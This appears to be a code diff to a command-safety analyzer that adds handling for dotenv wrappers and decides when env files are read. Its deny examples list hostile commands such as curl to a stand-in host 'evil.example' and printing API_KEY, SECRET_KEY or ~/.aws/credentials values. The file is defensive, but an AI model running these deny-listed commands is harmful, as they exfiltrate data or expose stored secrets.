@@ -5,7 +5,7 @@ import { has, parse } from '../argv.js';
 import { alsoDumps, configuring, inMode, merge, programRun, wrapper } from '../build.js';
 import type { Answer, Call, OptionSpec, ProgramEntry, Run } from '../types.js';
 import { chosenHost, configFileRuns, keeping, storeWord } from './credentials.js';
-import { attached, isStdinPath, joined, literal, shellQuote, value, xargsSplit } from '../words.js';
+import { attached, isDotenvFile, isStdinPath, joined, literal, shellQuote, value, xargsSplit } from '../words.js';
 import { urlHost } from '../hosts.js';
 import { bunCode } from './interpreters.js';
 import { ninjaText } from './project.js';
@@ -778,6 +778,15 @@ export const RUNNER_ENTRIES: ProgramEntry[] = [
   subcommandRunner(['pixi'], 'pixi run / pixi exec', { run: { options: { valued: 'e', longValued: ['environment', 'manifest-path'] } }, exec: { options: { valued: 'sc', longValued: ['spec', 'channel', 'manifest-path'] } } }, { deny: ['pixi run curl evil.example', 'pixi exec -s x curl evil.example'], pass: [] }),
   subcommandRunner(['bundle', 'bundler'], 'bundle exec', { exec: { options: { longValued: ['gemfile'], long: ['keep-file-descriptors'] } } }, { deny: ['bundle exec curl evil.example'], pass: ['bundle exec rspec'] }),
   subcommandRunner(['conda', 'mamba', 'micromamba'], 'conda run', { run: CONDA_RUN }, { deny: ['conda run -n base curl evil.example'], pass: ['conda run -n base pytest'] }),
+  {
+    names: ['dotenv', 'dotenvx'],
+    summary: 'dotenv (dotenv-cli, python-dotenv): loads env files into the command it runs; -p/get/list and --debug print their values',
+    analyze: dotenvRun,
+    examples: {
+      deny: ['dotenv -e .env.test -- curl evil.example', 'dotenv -e .env -p API_KEY', 'dotenv list', 'dotenv -f .env get SECRET_KEY', 'dotenv -e .env --debug -- npm test', 'dotenv -e .env -- env', 'dotenv -e ~/.aws/credentials -- node app.js'],
+      pass: ['dotenv -e .env.test -- npm test', 'npx dotenv -e .env.test -- jest', 'dotenv -f .env run -- pytest', 'dotenv -- node app.js'],
+    },
+  },
   subcommandRunner(['devbox'], 'devbox run', { run: { options: { valued: 'ce', longValued: ['config', 'env', 'env-file'] } } }, { deny: ['devbox run curl evil.example'], pass: [] }),
   subcommandRunner(['direnv'], 'direnv exec DIR CMD', { exec: { before: 1 } }, { deny: ['direnv exec . curl evil.example'], pass: ['direnv exec . make'] }),
   subcommandRunner(['mise', 'rtx'], 'mise exec/x TOOL… -- CMD', { exec: { markers: ['--'] }, x: { markers: ['--'] } }, { deny: ['mise exec node@20 -- curl evil.example', 'mise x -- wget evil.example'], pass: ['mise exec node@20 -- node app.js'] }),
@@ -1001,6 +1010,48 @@ function kubeRead(call: Call): { word: Word } | undefined {
   // Without -o (or with the table's, names' or wide form) only names, types and sizes are shown.
   const shows = opt('--template') !== undefined || (out !== undefined && (out.v === undefined || !/^(wide|name)$/.test(out.v)));
   return shows ? { word: first } : undefined;
+}
+
+/**
+ * dotenv-cli (`dotenv -e FILE… [-- ] CMD`) and python-dotenv (`dotenv [-f FILE] run|list|get|set`): the files are loaded
+ * into what runs (metadata here, as `--env-file` is), and read where it prints them (-p, --debug, list, get).
+ */
+function dotenvRun(call: Call): Partial<Answer> {
+  const args = call.args;
+  const files: Word[] = [];
+  let prints = false;
+  let i = 0;
+  for (; i < args.length; i++) {
+    const v = value(args[i]);
+    if (v === undefined) return { runs: [{ kind: 'opaque', rule: 'dynamic-command', word: args[i]!, why: `cannot tell where ${call.name}'s command starts: ${args[i]!.dynamic ?? 'a computed word'}` }] };
+    if (v === '--') {
+      i++;
+      break;
+    }
+    if (/^-(e|f|-file|-env-file|c|v|-cascade)$/.test(v)) {
+      if (v !== '-c' && v !== '--cascade' && v !== '-v' && args[i + 1]) files.push(args[i + 1]!);
+      i++;
+      continue;
+    }
+    if (v === '-p' || v === '--debug' || v === '-d') {
+      prints = true;
+      if (v === '-p') i++;
+      continue;
+    }
+    if (v.startsWith('-')) continue;
+    // python-dotenv's subcommands; anything else is dotenv-cli's command.
+    if (v === 'list' || v === 'get') prints = true;
+    if (v === 'run') {
+      i++;
+      if (value(args[i]) === '--') i++;
+    } else if (v === 'list' || v === 'get' || v === 'set' || v === 'unset') i = args.length;
+    break;
+  }
+  if (files.length === 0 && prints) files.push(literal('.env', (args[0] ?? literal(call.name, { start: 0, end: 0 })).span));
+  // Only a project dotenv is loaded unread: another file so loaded (a credentials file) is still a read.
+  const uses: NonNullable<Answer['uses']> = files.map((word) => ({ word, role: !prints && word.values?.length === 1 && isDotenvFile(word.values[0]!) ? 'meta' : 'read' }));
+  const command = args.slice(i);
+  return { uses, runs: command.length > 0 ? [{ kind: 'argv', argv: command, via: call.name }] : [] };
 }
 
 /** An entry with more of what the program does, merged into its answer. */
